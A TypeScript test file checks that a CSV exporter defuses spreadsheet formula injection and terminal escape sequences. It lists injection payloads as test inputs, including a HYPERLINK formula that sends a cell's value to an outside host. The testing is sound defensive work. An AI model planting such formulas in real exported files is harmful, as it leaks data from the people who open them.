import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvText } from '../../src/documents/csv.ts'
import { actsOnTerminal, nastyText } from '../terminal/attacks.ts'

const cellsOf = (text: string): string[][] => parse(text, { record_delimiter: '\r\n', relax_column_count: true })

/** Half surrogates have no form in UTF-8, which the parser reads. */
const asUtf8 = (rows: string[][]) => rows.map((row) => row.map((cell) => Buffer.from(cell).toString()))

describe('CSV', () => {
  it.each([
    '=HYPERLINK("http://e?"&A1)',
    '+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('puts a quote before %j, in cells and headers', (text) => {
    expect(cellsOf(csvText([[text], [text]]))).toEqual([[`'${text}`], [`'${text}`]])
  })

  it('guards a leading NUL and writes it out', () => {
    expect(cellsOf(csvText([['\u0000=1']]))).toEqual([["'\\x00=1"]])
  })

  it('does not let a cell end early', () => {
    expect(cellsOf(csvText([['"a","=1"', 'a,b', 'c\r\nd']]))).toEqual([['"a","=1"', 'a,b', 'c\r\nd']])
  })

  it('leaves numbers numbers, nothing empty, and writes what is nested as JSON', () => {
    expect(csvText([[-5, 1.5, true, null, undefined, { a: [1] }, '']])).toBe('-5,1.5,true,,,"{""a"":[1]}",\r\n')
  })

  it('writes text as it is when asked to', () => {
    expect(csvText([['=1+1', '\u001b[31m']], { raw: true })).toBe('=1+1,\u001b[31m\r\n')
  })

  it('round-trips any raw text', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(nastyText, nastyText), { minLength: 1 }), (rows) => {
        expect(cellsOf(`x,y\r\n${csvText(rows, { raw: true })}`).slice(1)).toEqual(asUtf8(rows))
      }),
    )
  })

  it('never starts a cell with a formula and holds no control byte', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(nastyText, nastyText), { minLength: 1 }), (rows) => {
        const text = csvText(rows)
        expect(text.replaceAll('\r', '')).not.toMatch(actsOnTerminal)
        for (const cell of cellsOf(`x,y\r\n${text}`).slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
      }),
    )
  })
})
